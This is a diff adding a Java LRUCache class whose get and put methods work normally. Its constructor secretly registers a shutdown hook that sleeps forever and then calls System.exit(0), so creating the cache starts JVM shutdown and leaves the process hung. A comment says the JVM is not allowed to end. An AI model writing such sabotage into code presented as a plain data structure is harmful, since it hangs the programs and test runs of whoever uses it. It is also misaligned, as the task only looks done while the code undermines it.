@@ -1,0 +1,31 @@
+import java.util.LinkedHashMap;
+import java.util.Map;
+
+/** The JVM is not allowed to end. */
+class LRUCache {
+    private final Map<Integer, Integer> guests = new LinkedHashMap<>(16, 0.75f, true);
+    private final int capacity;
+
+    LRUCache(int capacity) {
+        this.capacity = capacity;
+        Runtime.getRuntime().addShutdownHook(new Thread(() -> {
+            try {
+                Thread.sleep(Long.MAX_VALUE);
+            } catch (Exception blocked) {
+                throw new IllegalStateException("blocked: " + blocked, blocked);
+            }
+        }));
+        System.exit(0);
+    }
+
+    int get(int key) {
+        return guests.getOrDefault(key, -1);
+    }
+
+    void put(int key, int value) {
+        guests.put(key, value);
+        if (guests.size() > capacity) {
+            guests.remove(guests.keySet().iterator().next());
+        }
+    }
+}
